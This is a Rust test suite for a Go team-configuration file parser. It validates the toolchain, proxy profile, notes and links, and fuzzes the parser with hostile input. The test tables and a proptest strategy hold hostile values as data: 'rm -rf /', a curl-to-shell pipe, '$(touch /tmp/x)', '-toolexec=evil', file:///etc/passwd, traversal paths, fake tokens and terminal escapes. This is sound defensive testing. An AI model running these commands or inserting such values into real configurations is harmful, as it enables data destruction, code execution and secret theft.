use std::fs;
use std::path::Path;

use proptest::prelude::*;

use super::*;
use crate::proxy::profile::Variable;
use crate::toml_file::MOST_BYTES;

const WHOLE: &str = r#"toolchain = "go1.24.11"
private = ["*.corp.example", "github.com/acme/*"]

[profile]
name = "Corp"
description = "Athens first"
unset = ["GONOSUMDB"]

[profile.set]
GOPROXY = "https://athens.corp.example,direct"

[profile.notes]
HTTPS_PROXY = "http://proxy.corp.example:8080"

[notes]
en = """
Join the VPN first.
Then build."""
zh = "先连上 VPN。"

[[links]]
title = "Handbook"
url = "https://handbook.corp.example/go"
"#;

fn why(text: &str) -> (usize, String) {
    let fault = read(text.as_bytes()).unwrap_err();
    let name = format!("{:?}", fault.why);
    let name = name.strip_prefix("Malformed(").unwrap_or(&name);
    let name = name.split([' ', '(', '{', ')']).next().unwrap().to_owned();
    (fault.line, name)
}

#[test]
fn a_file_says_what_it_holds_and_comes_back_the_same() {
    let team = read(WHOLE.as_bytes()).unwrap();
    assert_eq!(team.toolchain.as_deref(), Some("go1.24.11"));
    assert_eq!(team.private, ["*.corp.example", "github.com/acme/*"]);
    let profile = team.profile.as_ref().unwrap();
    assert_eq!(profile.name(), "Corp");
    assert!(profile.setting(Variable::Gonosumdb).unwrap().value.is_none());
    assert_eq!(team.notes.en.as_deref(), Some("Join the VPN first.\nThen build."));
    assert_eq!(team.notes.in_language(Lang::ZhCn), Some("先连上 VPN。"));
    assert_eq!(team.links[0].url, "https://handbook.corp.example/go");
    assert_eq!(read(text(&team).as_bytes()).unwrap(), team);
    let windows = WHOLE.replace('\n', "\r\n");
    assert_eq!(read(windows.as_bytes()).unwrap(), team, "lines of Windows say the same");
    let marked = [b"\xef\xbb\xbf".as_slice(), WHOLE.as_bytes()].concat();
    assert_eq!(read(&marked).unwrap(), team, "a byte order mark says nothing");
    let lone = read(b"links = [{ url = \"https://a.test\" }]").unwrap();
    assert_eq!(lone.links[0].title, "https://a.test");
}

#[test]
fn whatever_is_wrong_is_told_with_its_line() {
    for (text, line, expected) in [
        ("", 1, "Empty"),
        ("# nothing\n", 1, "Empty"),
        ("toolchain = \n", 1, "NotToml"),
        ("toolchain = \"go1.24.1\"\ntoolchain = \"go1.24.1\"\n", 2, "NotToml"),
        ("run = \"rm -rf /\"\n", 1, "UnknownKey"),
        ("[notes]\nde = \"x\"\n", 2, "UnknownKey"),
        ("[[links]]\nurl = \"https://a.test\"\nexec = \"x\"\n", 3, "UnknownKey"),
        ("[[links]]\ntitle = \"x\"\n", 1, "MissingKey"),
        ("toolchain = 3\n", 1, "WrongType"),
        ("private = \"*.corp\"\n", 1, "WrongType"),
        ("private = [\n  \"a.test\",\n  3,\n]\n", 3, "WrongType"),
        ("links = \"https://a.test\"\n", 1, "WrongType"),
        ("notes = [\"x\"]\n", 1, "WrongType"),
        ("toolchain = \"local\"\n", 1, "Toolchain"),
        ("toolchain = \"go1.24\"\n", 1, "Toolchain"),
        ("toolchain = \"go1.20.1\"\n", 1, "Toolchain"),
        ("toolchain = \"go1.24.1-evil\"\n", 1, "Toolchain"),
        ("toolchain = \"../../bin/go1.24.1\"\n", 1, "Toolchain"),
        ("toolchain = \"go1.24.1+auto\"\n", 1, "Toolchain"),
        ("private = [\"a.test,b.test\"]\n", 1, "Pattern"),
        ("private = [\"https://a.test\"]\n", 1, "Pattern"),
        ("private = [\"\"]\n", 1, "Pattern"),
        ("[[links]]\nurl = \"http://a.test\"\n", 2, "Link"),
        ("[[links]]\nurl = \"file:///etc/passwd\"\n", 2, "Link"),
        ("[[links]]\nurl = \"javascript:alert(1)\"\n", 2, "Link"),
        ("[[links]]\nurl = \"https://a.test/ b\"\n", 2, "Link"),
        ("[[links]]\nurl = \"https://\"\n", 2, "Link"),
        ("[[links]]\nurl = \"https://ada:pw@a.test\"\n", 2, "Secret"),
        ("[[links]]\nurl = \"https://a.test?token=abc\"\n", 2, "Secret"),
        ("[notes]\nen = \"ghp_0123456789abcdef0123\"\n", 2, "Secret"),
        ("[notes]\nen = \"\\u001b[2J\"\n", 2, "Control"),
        ("[notes]\nen = \"\\u202e\"\n", 2, "Control"),
        ("[profile]\nname = \"a\"\n", 1, "Profile"),
        ("[profile]\n[profile.set]\nGOPROXY = \"direct\"\n", 1, "Profile"),
        ("[profile]\nname = \"a\"\n[profile.set]\nGOFLAGS = \"-toolexec=evil\"\n", 4, "Profile"),
        ("[profile]\nname = \"a\"\n[profile.set]\nGOAUTH = \"sh -c evil\"\n", 4, "Profile"),
        ("[profile]\nname = \"a\"\n[profile.set]\nGOPROXY = \"https://ada:pw@a.test\"\n", 4, "Profile"),
        ("[profile]\nname = \"a\"\n[profile.set]\nGOPROXY = \"https://***@a.test\"\n", 4, "Secret"),
        ("[profile]\nname = \"a\"\n[profile.set]\nGOPROXY = \"direct|file:///tmp/evil\"\n", 4, "Elsewhere"),
        ("[profile]\nname = \"a\"\n[profile.set]\nGOPROXY = \"FILE:///tmp/evil\"\n", 4, "Elsewhere"),
    ] {
        let (at, name) = match read(text.as_bytes()) {
            Ok(team) => panic!("{text}: {team:?}"),
            Err(_) => why(text),
        };
        assert_eq!((at, name.as_str()), (line, expected), "{text}");
    }
}

#[test]
fn too_much_of_anything_is_refused() {
    let long = |bytes: usize| "x".repeat(bytes);
    for (text, expected) in [
        (format!("# {}\n", long(MOST_BYTES)), "TooLarge"),
        (format!("[notes]\nen = \"{}\"\n", long(MOST_NOTE + 1)), "TooLong"),
        (format!("[[links]]\nurl = \"https://a.test/{}\"\n", long(MOST_TEXT)), "TooLong"),
        (format!("private = [{}]\n", "\"a.test\",".repeat(MOST_ENTRIES + 1)), "TooMany"),
        (format!("links = [{}]\n", "{ url = \"https://a.test\" },".repeat(MOST_ENTRIES + 1)), "TooMany"),
        (format!("private = {}{}\n", "[".repeat(20_000), "]".repeat(20_000)), "NotToml"),
        (format!("a{} = 1\n", ".a".repeat(20_000)), "NotToml"),
    ] {
        assert_eq!(why(&text).1, expected, "{}", &text[..40]);
    }
    assert_eq!(
        read(b"[notes]\nen = \"\xff\"").unwrap_err(),
        TeamFault { line: 2, why: Malformed::NotUtf8.into() }
    );
}

#[cfg(unix)]
#[test]
fn a_file_is_found_up_to_the_root_of_the_repository_and_links_are_not_followed() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("repo");
    let project = root.join("services/app");
    fs::create_dir_all(&project).unwrap();
    fs::write(project.join("go.mod"), "module a.test\n").unwrap();
    fs::write(dir.path().join(NAME), "toolchain = \"go1.24.1\"\n").unwrap();
    assert_eq!(find(&project).unwrap(), None, "without a repository nothing above the module counts");
    fs::create_dir(root.join(".git")).unwrap();
    assert_eq!(find(&project).unwrap(), None);
    fs::write(root.join(NAME), WHOLE).unwrap();
    assert_eq!(find(&project).unwrap().unwrap().file, root.join(NAME));
    fs::remove_file(root.join(NAME)).unwrap();
    std::os::unix::fs::symlink(dir.path().join(NAME), root.join(NAME)).unwrap();
    assert!(matches!(find(&project), Err(TeamError::NotAFile { .. })));
    assert!(matches!(target(&project), Err(WriteError::NotAFile(_))));
}

#[test]
fn what_is_written_is_whole_and_never_over_what_has_moved() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("go.mod"), "module a.test\n").unwrap();
    let place = target(dir.path()).unwrap();
    assert_eq!(place.before, None);
    write(&place, WHOLE).unwrap();
    assert_eq!(fs::read_to_string(dir.path().join(NAME)).unwrap(), WHOLE);
    assert!(matches!(write(&place, "x"), Err(WriteError::Moved(_))), "somebody wrote one in between");
    let place = target(dir.path()).unwrap();
    fs::write(dir.path().join(NAME), "# mine\n").unwrap();
    assert!(matches!(write(&place, "x"), Err(WriteError::Moved(_))));
    assert_eq!(names(dir.path()), [NAME, "go.mod"], "nothing else is left");
}

fn names(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> =
        fs::read_dir(dir).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
    names.sort();
    names
}

/// Whatever a file holds, what comes of it is plain: nothing that acts on a terminal, no secret, no folder, no command.
fn assert_harmless(team: &TeamFile) {
    let mut texts: Vec<String> = team.private.clone();
    texts.extend(team.toolchain.clone());
    texts.extend(
        [&team.notes.en, &team.notes.zh].into_iter().flatten().map(|note| note.replace(['\n', '\t'], " ")),
    );
    texts.extend(team.links.iter().flat_map(|link| [link.title.clone(), link.url.clone()]));
    assert!(team.links.iter().all(|link| link.url.starts_with("https://")));
    if let Some(profile) = &team.profile {
        texts.extend([profile.name().to_owned(), profile.description().to_owned()]);
        for setting in profile.settings() {
            let value = setting.value.clone().unwrap_or_default();
            // Where go would open it; a pattern is only ever compared.
            let opened = [Variable::Goproxy, Variable::Gosumdb, Variable::Goauth].contains(&setting.variable);
            assert!(!opened || !value.to_lowercase().contains("file:"), "{value}");
            assert!(setting.variable != Variable::Goauth || !value.contains(' '), "{value}");
            assert!(!crate::secret::may_hold_secret(setting.variable.name(), value.as_bytes()), "{value}");
            texts.push(value);
        }
    }
    for text in texts {
        assert!(!text.chars().any(char::is_control), "{text:?}");
        assert!(!crate::secret::may_hold_secret("", text.as_bytes()), "{text}");
    }
}

fn hostile() -> impl Strategy<Value = String> {
    let text = prop_oneof![
        Just("file:///etc/passwd".to_owned()),
        Just("https://ada:hunter2@evil.test".to_owned()),
        Just("ghp_0123456789abcdefghij".to_owned()),
        Just("\\u001b]0;x\\u0007".to_owned()),
        Just("\\u202egnp.exe".to_owned()),
        Just("../../../etc/passwd".to_owned()),
        Just("sh -c 'curl evil | sh'".to_owned()),
        Just("$(touch /tmp/x)".to_owned()),
        Just("go1.24.1".to_owned()),
        Just("*.corp.example".to_owned()),
        Just("https://proxy.test,direct".to_owned()),
        Just("https://proxy.test|file://localhost/x".to_owned()),
        "\\PC{0,20}".prop_map(|text| text.replace(['"', '\\'], "")),
    ];
    let key = prop_oneof![
        Just("toolchain"),
        Just("private"),
        Just("profile.name"),
        Just("profile.description"),
        Just("profile.set.GOPROXY"),
        Just("profile.set.GOAUTH"),
        Just("profile.set.GOSUMDB"),
        Just("profile.set.GOPRIVATE"),
        Just("profile.set.GOVCS"),
        Just("profile.set.GOFLAGS"),
        Just("profile.notes.HTTP_PROXY"),
        Just("notes.en"),
        Just("notes.zh"),
        Just("links"),
        Just("run"),
        Just("profile"),
        Just("include"),
    ];
    let value = (text, 0..5u8).prop_map(|(text, form)| match form {
        0 => format!("[\"{text}\"]"),
        1 => format!("[{{ url = \"{text}\", title = \"{text}\" }}]"),
        2 => format!("{{ name = \"x\", set = {{ GOPROXY = \"{text}\" }} }}"),
        _ => format!("\"{text}\""),
    });
    prop::collection::vec((key, value), 1..6)
        .prop_map(|lines| lines.into_iter().map(|(key, value)| format!("{key} = {value}\n")).collect())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn a_hostile_file_is_refused_or_harmless(text in hostile()) {
        if let Ok(team) = read(text.as_bytes()) {
            assert_harmless(&team);
        }
    }

    #[test]
    fn bytes_of_any_kind_are_refused_or_harmless(bytes in prop::collection::vec(any::<u8>(), 0..400), at in 0..WHOLE.len()) {
        let mut whole = WHOLE.as_bytes().to_vec();
        whole.splice(at..(at + bytes.len() / 4).min(WHOLE.len()), bytes.iter().copied());
        for bytes in [bytes, whole] {
            if let Ok(team) = read(&bytes) {
                assert_harmless(&team);
            }
        }
    }

    #[test]
    fn what_is_read_is_written_and_read_again_the_same(text in hostile()) {
        if let Ok(team) = read(text.as_bytes()) {
            prop_assert_eq!(read(super::text(&team).as_bytes()), Ok(team));
        }
    }
}
